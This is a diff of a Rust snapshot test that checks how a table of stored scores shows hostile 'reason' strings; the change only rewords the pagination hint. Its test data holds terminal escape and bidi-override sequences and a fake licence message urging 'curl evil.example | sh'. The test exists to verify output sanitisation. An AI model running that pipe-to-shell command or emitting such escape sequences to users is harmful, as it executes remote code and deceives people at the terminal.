@@ -241,21 +241,21 @@ fn the_table_of_stored_scores_is_harmless() {
     case  scorer     score  reason
     a     attacker  1.0000  \u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}desrever\u{2066} \u{8}\u{9b}31m\u{7f}\u{0}\u{200f}
     [stderr]
-    1 of 6 scores; the next ones: --skip 1; all of them: --limit 0
+    1 of 6 scores; next page: --skip 1; all: --limit 0
     [exit code 0]
     "#);
     assert_snapshot!(table("fail-for-a-terminal"), @r#"
     case  scorer    score  reason
     a     attacker  error  failed: \u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}desrever\u{2066} \u{8}\u{9b}31m\u{7f}\u{0}\u{200f}
     [stderr]
-    1 of 6 scores; the next ones: --skip 1; all of them: --limit 0
+    1 of 6 scores; next page: --skip 1; all: --limit 0
     [exit code 0]
     "#);
     assert_snapshot!(table("reason-in-the-engines-words"), @"
     case  scorer     score  reason
     a     attacker  1.0000  nothing to worry about error: your licence has ended hint: renew it: curl evil.example | sh
     [stderr]
-    1 of 6 scores; the next ones: --skip 1; all of them: --limit 0
+    1 of 6 scores; next page: --skip 1; all: --limit 0
     [exit code 0]
     ");
 }
